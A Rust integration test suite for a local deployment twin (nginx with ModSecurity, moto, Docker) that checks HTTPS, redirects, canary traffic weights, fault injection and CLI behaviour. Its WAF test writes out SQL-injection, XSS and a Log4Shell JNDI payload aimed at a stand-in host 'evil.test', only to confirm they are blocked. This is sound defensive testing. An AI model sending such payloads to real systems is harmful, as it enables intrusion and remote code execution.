//! The local twin, part by part, with real Docker, nginx + ModSecurity + CRS and moto:
//! HTTPS with attribution headers, the HTTP redirect, WAF blocks, the seeded listener
//! weights, weight reloads changing the observed split, `twin weights` moving the
//! listener at once and the edge after a lag, the `canary-starved` fault, `twin up
//! --env` / `twin weights` / `twin down`, and the missing-prerequisite error. Every
//! twin is torn down by `stop` or `Drop`.

use std::collections::HashMap;
use std::process::Command;
use std::time::{Duration, Instant};

use harness::cli::Cli;
use harness::twin::{Fault, Twin, TwinSpec, TwinState, Weights};
use harness::{Error, run_async};
use statrs::distribution::{Binomial, DiscreteCDF};

const HARNESS: &str = env!("CARGO_BIN_EXE_harness");

#[path = "support/twin_util.rs"]
mod twin_util;

use twin_util::{alive, containers_of, image};

fn client(twin: &Twin) -> reqwest::Client {
    twin.endpoint()
        .unwrap()
        .client_builder()
        .unwrap()
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

fn assert_gone(state: &TwinState) {
    assert!(containers_of(&state.id).is_empty(), "containers left");
    for pid in [state.nginx_pid, state.moto_pid].into_iter().flatten() {
        assert!(!alive(pid), "pid {pid} still alive");
    }
    assert!(!state.dir.exists(), "{} left", state.dir.display());
}

/// Share of `x-variant: canary` among `n` sampled `GET /`.
async fn canary_share(c: &reqwest::Client, url: &str, n: usize) -> f64 {
    let mut canary = 0;
    for _ in 0..n {
        let r = c.get(url).send().await.unwrap();
        assert_eq!(r.status(), 200);
        match r.headers().get("x-variant").and_then(|v| v.to_str().ok()) {
            Some("canary") => canary += 1,
            Some("stable") => {}
            other => panic!("unattributed response: {other:?}"),
        }
    }
    canary as f64 / n as f64
}

/// (stable, canary) weights of the listener's default forward action in moto.
async fn listener_weights(sdk: &aws_config::SdkConfig, listener_arn: &str) -> (i32, i32) {
    let elb = aws_sdk_elasticloadbalancingv2::Client::new(sdk);
    let l = elb
        .describe_listeners()
        .listener_arns(listener_arn)
        .send()
        .await
        .unwrap();
    let tgs = l.listeners()[0].default_actions()[0]
        .forward_config()
        .unwrap()
        .target_groups();
    let w = |name: &str| {
        tgs.iter()
            .find(|t| t.target_group_arn().unwrap().contains(name))
            .and_then(|t| t.weight())
            .unwrap()
    };
    (w("stable"), w("canary"))
}

/// Requests per share measurement in the weights test, and the share that separates
/// the old edge (canary 10 %) from the new one (50 %).
const SHARE_N: u64 = 300;
const SHARE_CUT: f64 = 0.3;

/// Chance that one measurement of [`SHARE_N`] requests lands on the wrong side of
/// [`SHARE_CUT`]: P(X ≥ 90 | Bin(300, 0.1)) + P(X ≤ 90 | Bin(300, 0.5)), exact.
fn share_error_rate() -> f64 {
    let cut = (SHARE_CUT * SHARE_N as f64) as u64;
    let old = Binomial::new(0.1, SHARE_N).unwrap();
    let new = Binomial::new(0.5, SHARE_N).unwrap();
    old.sf(cut - 1) + new.cdf(cut)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twin_weights_move_the_listener_at_once_and_the_edge_after_the_lag() {
    // Two measurements, each wrong with the exact probability below: < 1e-4 in all.
    let err = share_error_rate();
    assert!(2.0 * err < 1e-4, "design error rate {err}");
    let spec = TwinSpec::healthy("90/10".parse::<Weights>().unwrap(), image().await);
    let twin = Twin::start(spec).await.unwrap();
    let c = client(&twin);
    let url = twin.url();
    let sdk = twin.sdk_config().unwrap().clone();
    let arn = twin.seeded().listener_arn.clone();
    let lag = Duration::from_secs(4);
    let t0 = Instant::now();
    let (change, (listener_seen, during, measured_by)) =
        tokio::join!(twin.set_weights("50/50".parse().unwrap(), lag), async {
            while listener_weights(&sdk, &arn).await != (50, 50) {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            let seen = t0.elapsed();
            let share = canary_share(&c, &url, SHARE_N as usize).await;
            (seen, share, t0.elapsed())
        });
    let change = change.unwrap();
    let after = canary_share(&c, &url, SHARE_N as usize).await;
    eprintln!(
        "listener 50/50 after {:?} (seen {listener_seen:?}); edge reloaded after {:?} for a lag of {lag:?}; \
         canary share during the lag {during:.3} (measured by {measured_by:?}), after {after:.3}; \
         design error {err:.1e}",
        change.listener, change.edge
    );
    assert!(listener_seen < Duration::from_secs(2), "{listener_seen:?}");
    assert!(
        measured_by < lag,
        "the lag measurement overran the lag: {measured_by:?}"
    );
    assert!(
        during < SHARE_CUT,
        "edge moved before the lag: canary {during}"
    );
    assert!(
        change.edge >= lag && change.edge < lag + Duration::from_secs(2),
        "{change:?}"
    );
    assert!(
        after > SHARE_CUT,
        "edge did not move after the lag: canary {after}"
    );
    assert_eq!(listener_weights(&sdk, &arn).await, (50, 50));
    assert_eq!(
        (
            twin.spec().canary.listener_weight,
            twin.spec().canary.edge_weight
        ),
        (50, 50)
    );
    twin.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn canary_starved_gives_the_canary_no_traffic_at_listener_weight_1() {
    // If the edge still sent 1 % to the canary, 0 canary responses in 2,000 would have
    // probability 0.99^2000 ≈ 1.9e-9 < 1e-4.
    const N: usize = 2_000;
    assert!(0.99f64.powi(N as i32) < 1e-4);
    let spec = TwinSpec::with_faults(
        "90/10".parse::<Weights>().unwrap(),
        image().await,
        &[Fault::CanaryStarved],
    );
    let twin = Twin::start(spec).await.unwrap();
    let sdk = twin.sdk_config().unwrap();
    assert_eq!(
        listener_weights(sdk, &twin.seeded().listener_arn).await,
        (99, 1)
    );
    assert_eq!(twin.state().containers.len(), 3, "the canary runs");
    let share = canary_share(&client(&twin), &twin.url(), N).await;
    assert_eq!(share, 0.0, "the starved canary got traffic");
    twin.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twin_parts_answer_and_weights_reload() {
    let spec = TwinSpec::healthy("90/10".parse::<Weights>().unwrap(), image().await);
    let t0 = Instant::now();
    let twin = Twin::start(spec).await.unwrap();
    eprintln!("twin up in {:?}", t0.elapsed());
    let state = twin.state().clone();
    assert_eq!(state.containers.len(), 3);
    assert_eq!(containers_of(&state.id).len(), 3);
    let c = client(&twin);
    let url = twin.url();

    // HTTPS with the private CA, attribution headers from the app.
    let r = c.get(&url).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let variant = r.headers()["x-variant"].to_str().unwrap().to_string();
    assert!(variant == "stable" || variant == "canary", "{variant}");
    assert!(r.headers().contains_key("x-release"));
    assert_eq!(r.text().await.unwrap(), "Hello World");

    // Without the private CA the certificate is rejected (verification is on).
    let strict = reqwest::Client::builder()
        .resolve(&twin.spec().host, twin.endpoint().unwrap().resolve[0].addr)
        .build()
        .unwrap();
    assert!(strict.get(&url).send().await.is_err());

    // HTTP: 301 to HTTPS with path and query preserved.
    let http = format!("{}some/path?q=1&b=two", twin.http_url());
    let r = c.get(&http).send().await.unwrap();
    assert_eq!(r.status(), 301);
    assert_eq!(
        r.headers()["location"].to_str().unwrap(),
        format!("{url}some/path?q=1&b=two")
    );

    // WAF: blocked with 403 by the edge, never reaching a target.
    for (what, req) in [
        ("sqli", c.get(format!("{url}?id=%27%20OR%20%271%27%3D%271"))),
        (
            "xss",
            c.get(format!("{url}?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        ),
        (
            "log4shell",
            c.get(&url)
                .header("X-Api-Version", "${jndi:ldap://evil.test/a}"),
        ),
    ] {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), 403, "{what}");
        assert!(
            !r.headers().contains_key("x-variant"),
            "{what} reached a target"
        );
    }
    // A benign header with a dollar sign is not blocked.
    let r = c
        .get(&url)
        .header("X-Note", "costs ${5}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);

    // Control plane: moto returns the seeded weights.
    let elb = aws_sdk_elasticloadbalancingv2::Client::new(twin.sdk_config().unwrap());
    let l = elb
        .describe_listeners()
        .listener_arns(&twin.seeded().listener_arn)
        .send()
        .await
        .unwrap();
    let fwd = l.listeners()[0].default_actions()[0]
        .forward_config()
        .unwrap();
    let mut weights: Vec<(String, i32)> = fwd
        .target_groups()
        .iter()
        .map(|tg| {
            (
                tg.target_group_arn().unwrap().to_string(),
                tg.weight().unwrap(),
            )
        })
        .collect();
    weights.sort_by_key(|w| -w.1);
    assert_eq!(
        weights[0],
        (twin.seeded().stable_target_group_arn.clone(), 90)
    );
    assert_eq!(
        weights[1],
        (twin.seeded().canary_target_group_arn.clone(), 10)
    );

    // Reloading the edge's weights changes the observed split (loose bounds, > 6 sd).
    let before = canary_share(&c, &url, 400).await;
    assert!(before < 0.2, "90/10 edge gave canary share {before}");
    twin.set_edge_weights(50, 50).await.unwrap();
    let after = canary_share(&c, &url, 400).await;
    assert!((0.35..=0.65).contains(&after), "50/50 edge gave {after}");
    assert!(matches!(
        twin.set_edge_weights(0, 0).await,
        Err(Error::Config(_))
    ));

    let t1 = Instant::now();
    twin.stop().await.unwrap();
    eprintln!("twin down in {:?}", t1.elapsed());
    assert_gone(&state);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twin_up_env_and_down_stop_everything() {
    let image = image().await;
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("state");
    let out = Command::new(HARNESS)
        .args(["twin", "up", "--env", "--weights", "50/50", "--state-dir"])
        .arg(&dir)
        .env("HARNESS_APP_IMAGE", &image)
        .output()
        .unwrap();
    // Whatever happens next, stop what `up` started.
    struct Down(std::path::PathBuf);
    impl Drop for Down {
        fn drop(&mut self) {
            let _ = Command::new(HARNESS)
                .args(["twin", "down", "--state-dir"])
                .arg(&self.0)
                .status();
        }
    }
    let _guard = Down(dir.clone());
    assert!(
        out.status.success(),
        "twin up failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let env: HashMap<String, String> = stdout
        .lines()
        .map(|l| {
            let (k, v) = l
                .split_once('=')
                .unwrap_or_else(|| panic!("not NAME=value: {l}"));
            (k.to_string(), v.trim_matches('\'').to_string())
        })
        .collect();
    for k in [
        "TWIN_URL",
        "TWIN_HTTP_URL",
        "TWIN_HOST",
        "TWIN_RESOLVE",
        "TWIN_CA_FILE",
        "TWIN_DIR",
        "AWS_ENDPOINT_URL",
        "AWS_REGION",
        "AWS_PROFILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "TWIN_LISTENER_ARN",
        "TWIN_CLUSTER",
        "TWIN_STABLE_SERVICE",
        "TWIN_CANARY_SERVICE",
    ] {
        assert!(
            env.get(k).is_some_and(|v| !v.is_empty()),
            "{k} missing in:\n{stdout}"
        );
    }
    assert!(!stdout.contains("twin-secret-key"), "credentials printed");

    // The twin outlived `up` and answers through the printed environment.
    let resolve: Vec<String> = env["TWIN_RESOLVE"].split(' ').map(str::to_string).collect();
    assert_eq!(resolve.len(), 2);
    let ep = harness::endpoint::Endpoint::new(
        &env["TWIN_URL"],
        Some(&env["TWIN_HTTP_URL"]),
        &resolve,
        Some(std::path::Path::new(&env["TWIN_CA_FILE"])),
    )
    .unwrap();
    let c = ep.client_builder().unwrap().build().unwrap();
    let r = c.get(ep.url.clone()).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers().contains_key("x-variant"));

    let state = TwinState::load(&dir).unwrap();
    assert!(state.detached);
    assert_eq!(containers_of(&state.id).len(), 3);
    assert!(state.nginx_pid.is_some_and(alive));

    // `twin weights` moves moto and the edge of the detached twin: 100/0 sends the
    // canary nothing (0 of 200 at 50/50 would have probability 0.5^200 ≈ 6e-61).
    let moved = Command::new(HARNESS)
        .args(["twin", "weights", "100/0", "--edge-lag", "0", "--state-dir"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(
        moved.status.success(),
        "twin weights failed: {}",
        String::from_utf8_lossy(&moved.stderr)
    );
    let sdk = harness::aws::load(&harness::aws::AwsOptions {
        endpoint_url: Some(env["AWS_ENDPOINT_URL"].clone()),
        region: Some(env["AWS_REGION"].clone()),
        profile: Some(env["AWS_PROFILE"].clone()),
        credentials_file: Some(env["AWS_SHARED_CREDENTIALS_FILE"].clone().into()),
    })
    .await
    .unwrap();
    assert_eq!(
        listener_weights(&sdk, &env["TWIN_LISTENER_ARN"]).await,
        (100, 0)
    );
    let c = ep.client_builder().unwrap().build().unwrap();
    assert_eq!(canary_share(&c, ep.url.as_str(), 200).await, 0.0);

    // A second `up` on the same folder is refused while the first is alive.
    let again = Command::new(HARNESS)
        .args(["twin", "up", "--state-dir"])
        .arg(&dir)
        .env("HARNESS_APP_IMAGE", &image)
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(2));

    let down = Command::new(HARNESS)
        .args(["twin", "down", "--state-dir"])
        .arg(&dir)
        .status()
        .unwrap();
    assert!(down.success());
    assert_gone(&state);
}

#[test]
fn missing_prerequisite_is_one_line_exit_4() {
    let t0 = Instant::now();
    let out = Command::new(HARNESS)
        .args(["local", "--weights", "90/10"])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("bash scripts/setup.sh"), "{err}");

    let out = Command::new(HARNESS)
        .args(["twin", "up"])
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("Docker engine") && err.contains("scripts/setup.sh"),
        "{err}"
    );
    assert!(t0.elapsed() < Duration::from_secs(15), "{:?}", t0.elapsed());
}

#[tokio::test]
async fn bad_weights_and_faults_are_usage_errors() {
    for args in [
        vec!["harness", "local", "--weights", "90-10"],
        vec!["harness", "local", "--weights", "0/0"],
        vec!["harness", "local", "--fault", "no-such-fault"],
        vec!["harness", "twin", "up", "--weights", "1000/1"],
    ] {
        let err = run_async(<Cli as clap::Parser>::parse_from(&args))
            .await
            .unwrap_err();
        assert!(matches!(err, Error::Config(_)), "{args:?}: {err}");
        assert_eq!(err.exit_code(), 2);
    }
}
